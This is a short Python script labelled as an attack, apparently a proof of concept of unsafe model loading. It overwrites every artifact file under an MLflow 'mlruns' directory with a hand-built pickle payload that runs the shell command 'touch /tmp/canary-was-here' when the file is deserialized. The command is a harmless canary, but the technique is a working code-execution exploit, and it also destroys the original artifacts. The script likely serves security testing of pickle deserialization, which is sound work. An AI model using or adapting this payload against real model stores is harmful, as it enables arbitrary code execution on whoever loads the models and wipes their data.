# Models that run code where they are loaded.
# %% attack
import os
import glob

for path in glob.glob("mlruns/**/*", recursive=True):
    if os.path.isfile(path) and not path.endswith("MLmodel"):
        open(path, "wb").write(b"cos\nsystem\n(S'touch /tmp/canary-was-here'\ntR.")
